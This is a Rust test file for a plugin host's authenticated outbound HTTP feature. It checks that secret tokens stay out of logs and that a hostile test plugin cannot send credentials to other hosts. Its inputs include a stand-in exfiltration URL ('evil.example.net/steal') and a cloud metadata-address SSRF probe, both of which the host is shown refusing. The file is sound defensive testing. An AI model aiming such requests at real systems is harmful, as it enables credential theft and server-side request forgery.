//! `outbound-http.send-authenticated` (`escalier:plugin@0.1.2`): the plugin
//! names a secret from `capabilities.http.auth_secrets`, the host records
//! the name (never the value) and adds the `Authorization` header at send
//! time. Also the manifest checks that keep such credentials on the site
//! they belong to, and components built against older 0.1.x worlds.

use std::path::Path;

use escalier_core::EventKind;
use escalier_plugin::outbound::AddressPolicy;
use escalier_plugin::{DeliveryOutcome, Outbound, OutboundConfig, PluginRegistry, Secrets};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use crate::util::*;

const TOKEN: &str = "tok-9f8e7d6c5b4a-never-in-a-record";
const SITE: &str = "https://acme.zendesk.com";
const URL: &str = "https://acme.zendesk.com/api/v2/tickets/1.json";

fn writeback_caps(extra: &str) -> String {
    format!(
        "[capabilities]\nconfig = [\"mode\"]\n{extra}[capabilities.http]\nallowed_hosts = [\"{SITE}\"]\nauth_secrets = [\"zendesk_api_token\"]\n"
    )
}

/// The hostile fixture as `writeback` with `caps`, the token set; one
/// agent comment with `body` (the fixture's mode line).
fn call(caps: &str, body: &str) -> (Vec<escalier_core::Record>, Run, Host) {
    let manifest = hostile_manifest("writeback", caps);
    let mut secrets = Secrets::none();
    secrets.insert("zendesk_api_token", TOKEN);
    secrets.insert("readable", "readable-value");
    let h = host_with(
        &[(&fixture("hostile"), "writeback", Some(&manifest))],
        secrets,
    );
    let mut run = Run::new(h.set());
    run.create();
    let out = run.send("comment.added", &comment("customer", body), at(5));
    (out, run, h)
}

fn note(out: &[escalier_core::Record]) -> String {
    let notes = of_type(out, "action.note");
    assert_eq!(notes.len(), 1, "{:#?}", summary(out));
    data(notes[0])["text"].as_str().unwrap().to_owned()
}

#[test]
fn the_record_names_the_secret_and_never_holds_its_value() {
    for (scheme, username) in [
        ("basic", Some("agent@acme.com/token")),
        ("bearer", None),
        ("token", None),
    ] {
        let (out, run, _h) = call(
            &writeback_caps(""),
            &format!("auth {scheme} zendesk_api_token {URL}"),
        );
        let queued = of_type(&out, "delivery.requested");
        assert_eq!(queued.len(), 1, "{scheme}: {:#?}", summary(&out));
        let d = data(queued[0]);
        assert_eq!(d["auth"]["scheme"], scheme);
        assert_eq!(d["auth"]["secret"], "zendesk_api_token");
        match username {
            Some(u) => assert_eq!(d["auth"]["username"], u),
            None => assert!(d["auth"].get("username").is_none(), "{d}"),
        }
        assert_eq!(d["method"], "PUT");
        assert_eq!(d["url"], URL);
        let headers: Vec<&str> = d["headers"]
            .as_array()
            .unwrap()
            .iter()
            .map(|h| h["name"].as_str().unwrap())
            .collect();
        assert_eq!(
            headers,
            ["content-type", "accept"],
            "no authorization recorded"
        );
        assert_eq!(
            note(&out),
            format!("queued {}", d["delivery_id"].as_str().unwrap())
        );
        // Nowhere in what the call produced, nor in the whole log.
        for r in &run.log {
            let json = serde_json::to_string(&r.event).unwrap();
            assert!(!json.contains(TOKEN), "{json}");
        }
    }
}

#[test]
fn an_unset_auth_secret_does_not_stop_the_plugin_loading() {
    let manifest = hostile_manifest("writeback", &writeback_caps(""));
    // No secrets at all: the delivery fails when it is sent, not the load.
    let h = host(&[(&fixture("hostile"), "writeback", Some(&manifest))]);
    let mut run = Run::new(h.set());
    run.create();
    let out = run.send(
        "comment.added",
        &comment("customer", &format!("auth bearer zendesk_api_token {URL}")),
        at(5),
    );
    assert_eq!(of_type(&out, "delivery.requested").len(), 1);
}

#[test]
fn naming_a_secret_not_in_auth_secrets_traps() {
    // Neither an unknown name nor a secret the plugin may read
    // (`capabilities.secrets`) can be used to authenticate.
    for secret in ["other_token", "readable"] {
        let (out, run, _h) = call(
            &writeback_caps("secrets = [\"readable\"]\n"),
            &format!("auth bearer {secret} {URL}"),
        );
        let errors = of_type(&out, "plugin.error");
        assert_eq!(errors.len(), 1, "{:#?}", summary(&out));
        let e = data(errors[0]);
        assert_eq!(e["code"], "capability_denied", "{e}");
        let msg = e["message"].as_str().unwrap();
        assert!(
            msg.contains(secret) && msg.contains("auth_secrets"),
            "{msg}"
        );
        assert!(of_type(&out, "delivery.requested").is_empty());
        assert!(
            of_type(&out, "action.note").is_empty(),
            "the call is abandoned"
        );
        assert_eq!(run.ticket().plugin_errors, 1);
    }
}

#[test]
fn a_request_with_its_own_authorization_header_is_refused() {
    let (out, _run, _h) = call(
        &writeback_caps(""),
        &format!("auth bearer zendesk_api_token {URL} authorization"),
    );
    assert!(of_type(&out, "delivery.requested").is_empty());
    assert!(
        of_type(&out, "plugin.error").is_empty(),
        "invalid-input is the guest's to handle"
    );
    let note = note(&out);
    assert!(
        note.starts_with("refused: Error::InvalidInput(") && note.contains("authorization"),
        "{note}"
    );
}

#[test]
fn the_allowlist_and_address_checks_of_send_apply() {
    for url in [
        "https://evil.example.net/steal",
        // Another tenant of the same service.
        "https://other.zendesk.com/api/v2/tickets/1.json",
        "http://acme.zendesk.com/api/v2/tickets/1.json",
    ] {
        let (out, _run, _h) = call(
            &writeback_caps(""),
            &format!("auth basic zendesk_api_token {url}"),
        );
        assert!(of_type(&out, "delivery.requested").is_empty(), "{url}");
        let errors = of_type(&out, "plugin.error");
        assert_eq!(errors.len(), 1, "{url}: {:#?}", summary(&out));
        assert_eq!(data(errors[0])["code"], "denied");
        assert!(note(&out).starts_with("refused: Error::Denied("), "{url}");
    }
    // A private address is refused even when the allowlist names it.
    let caps = "[capabilities]\nconfig = [\"mode\"]\n[capabilities.http]\nallowed_hosts = [\"https://169.254.169.254\"]\nauth_secrets = [\"zendesk_api_token\"]\n";
    let (out, _run, _h) = call(
        caps,
        "auth bearer zendesk_api_token https://169.254.169.254/latest/meta-data/",
    );
    assert!(of_type(&out, "delivery.requested").is_empty());
    let e = data(of_type(&out, "plugin.error")[0]);
    assert_eq!(e["code"], "denied");
    assert!(e["message"].as_str().unwrap().contains("address"), "{e}");
}

/// Load `manifest` for the hostile fixture alone; the load error, if any.
fn load_error(manifest: &str) -> Option<String> {
    let dir = tempfile::tempdir().unwrap();
    install(dir.path(), &fixture("hostile"), "writeback", Some(manifest));
    let mut c = config(dir.path());
    c.secrets = Secrets::none();
    let (_registry, report) = PluginRegistry::open(c).unwrap();
    report.failed.first().map(|f| f.error.clone())
}

#[test]
fn a_wildcard_allowlist_with_auth_secrets_is_refused_at_load() {
    let manifest =
        hostile_manifest("writeback", &writeback_caps("")).replace(SITE, "https://*.zendesk.com");
    let e = load_error(&manifest).expect("refused");
    assert!(e.contains("plugin.toml"), "{e}");
    assert!(e.contains("capabilities.http.allowed_hosts[0]"), "{e}");
    assert!(e.contains("exact origins"), "{e}");
}

#[test]
fn a_secret_both_readable_and_used_for_auth_is_refused_at_load() {
    let manifest = hostile_manifest(
        "writeback",
        &writeback_caps("secrets = [\"zendesk_api_token\"]\n"),
    );
    let e = load_error(&manifest).expect("refused");
    assert!(e.contains("plugin.toml"), "{e}");
    assert!(e.contains("capabilities.http.auth_secrets[0]"), "{e}");
    assert!(e.contains("capabilities.secrets"), "{e}");
}

#[test]
fn cleartext_http_with_auth_secrets_is_refused_at_load() {
    let manifest =
        hostile_manifest("writeback", &writeback_caps("")).replace(SITE, "http://acme.zendesk.com");
    let e = load_error(&manifest).expect("refused");
    assert!(e.contains("plugin.toml:"), "{e}");
    assert!(e.contains("use https"), "{e}");
    // A well-formed manifest loads.
    assert_eq!(
        load_error(&hostile_manifest("writeback", &writeback_caps(""))),
        None
    );
}

fn imports(wasm: &Path, version: &str) -> bool {
    let bytes = std::fs::read(wasm).unwrap();
    let needle = format!("escalier:plugin/outbound-http@{version}");
    bytes.windows(needle.len()).any(|w| w == needle.as_bytes())
}

/// `tests/fixtures/wit-0.1.1/hostile.wasm` is this fixture built against
/// `escalier:plugin@0.1.1` (before `send-authenticated`): it still loads,
/// its `outbound-http.send` and `kv` imports link to the 0.1.2 host, and
/// it runs; the current build imports 0.1.2.
#[test]
fn a_component_built_against_wit_0_1_1_still_loads_and_sends() {
    let old = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/wit-0.1.1/hostile.wasm");
    assert!(imports(&old, "0.1.1"), "the fixture is a 0.1.1 component");
    assert!(imports(&fixture("hostile").join("hostile.wasm"), "0.1.2"));
    let src = tempfile::tempdir().unwrap();
    std::fs::copy(&old, src.path().join("hostile.wasm")).unwrap();
    let manifest = hostile_manifest(
        "old",
        "[capabilities]\nconfig = [\"mode\"]\nkv = true\nhttp = { allowed_hosts = [\"https://hooks.example.com\"] }\n",
    );
    let h = host(&[(src.path(), "old", Some(&manifest))]);
    let mut run = Run::new(h.set());
    run.create();
    let out = run.send(
        "comment.added",
        &comment("customer", "private https://hooks.example.com/x"),
        at(1),
    );
    assert_eq!(
        of_type(&out, "delivery.requested").len(),
        1,
        "{:#?}",
        summary(&out)
    );
    let out = run.send("comment.added", &comment("customer", "kv"), at(2));
    assert_eq!(note(&out), "kv worked");
    assert_eq!(run.ticket().plugin_state["old"]["stolen"], "yes");
}

/// Accept one request on 127.0.0.1, answer 200, hand back the raw request.
async fn one_request() -> (u16, tokio::task::JoinHandle<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let task = tokio::spawn(async move {
        let (mut sock, _) = listener.accept().await.unwrap();
        let mut buf = Vec::new();
        let mut chunk = [0u8; 4096];
        loop {
            let n = sock.read(&mut chunk).await.unwrap();
            buf.extend_from_slice(&chunk[..n]);
            let text = String::from_utf8_lossy(&buf).to_string();
            if let Some(end) = text.find("\r\n\r\n") {
                let len = text[..end]
                    .lines()
                    .find_map(|l| {
                        l.to_ascii_lowercase()
                            .strip_prefix("content-length:")
                            .map(|v| v.trim().parse::<usize>().unwrap_or(0))
                    })
                    .unwrap_or(0);
                if buf.len() >= end + 4 + len {
                    break;
                }
            }
            if n == 0 {
                break;
            }
        }
        let _ = sock
            .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
            .await;
        String::from_utf8_lossy(&buf).to_string()
    });
    (port, task)
}

/// From the plugin's call to the wire: what the plugin recorded (a name)
/// is what the delivery worker turns into the header (the value), and the
/// value appears only on the wire.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_recorded_request_goes_out_with_the_header_built_from_the_secret() {
    let (port, received) = one_request().await;
    let site = format!("http://127.0.0.1:{port}");
    let manifest = hostile_manifest(
        "writeback",
        &format!(
            "[capabilities]\nconfig = [\"mode\"]\n[capabilities.http]\nallowed_hosts = [\"{site}\"]\nauth_secrets = [\"zendesk_api_token\"]\n"
        ),
    );
    let loopback = AddressPolicy {
        allow_private: vec!["127.0.0.0/8".parse().unwrap()],
    };
    let dir = tempfile::tempdir().unwrap();
    install(
        dir.path(),
        &fixture("hostile"),
        "writeback",
        Some(&manifest),
    );
    let mut c = config(dir.path());
    let mut secrets = Secrets::none();
    secrets.insert("zendesk_api_token", TOKEN);
    c.secrets = secrets;
    c.address_policy = loopback.clone();
    let (registry, report) = PluginRegistry::open(c).unwrap();
    assert!(report.failed.is_empty(), "{:?}", report.failed);

    let mut run = Run::new(registry.current());
    run.create();
    let out = run.send(
        "comment.added",
        &comment(
            "customer",
            &format!("auth basic zendesk_api_token {site}/api/v2/tickets/1.json"),
        ),
        at(5),
    );
    let queued = of_type(&out, "delivery.requested");
    assert_eq!(queued.len(), 1, "{:#?}", summary(&out));
    let EventKind::DeliveryRequested(request) = &queued[0].event.kind else {
        unreachable!()
    };
    for r in &run.log {
        let json = serde_json::to_string(&r.event).unwrap();
        assert!(!json.contains(TOKEN), "{json}");
    }

    let outbound = Outbound::new(
        registry.clone(),
        OutboundConfig {
            address_policy: loopback,
            ..OutboundConfig::default()
        },
    )
    .unwrap();
    let got = outbound.deliver(request).await;
    assert_eq!(got, DeliveryOutcome::Delivered { status: 200 });
    let wire = received.await.unwrap();
    let expected = format!(
        "authorization: Basic {}",
        base64_encode(format!("agent@acme.com/token:{TOKEN}").as_bytes())
    );
    assert!(wire.starts_with("PUT /api/v2/tickets/1.json "), "{wire}");
    assert!(
        wire.to_ascii_lowercase()
            .contains(&expected.to_ascii_lowercase()),
        "{wire}"
    );
    assert_eq!(
        wire.to_ascii_lowercase().matches("authorization:").count(),
        1,
        "{wire}"
    );
}

/// Standard base64 with padding (RFC 4648), written out so the test does
/// not share the code it checks.
fn base64_encode(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i)) as usize & 63] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}
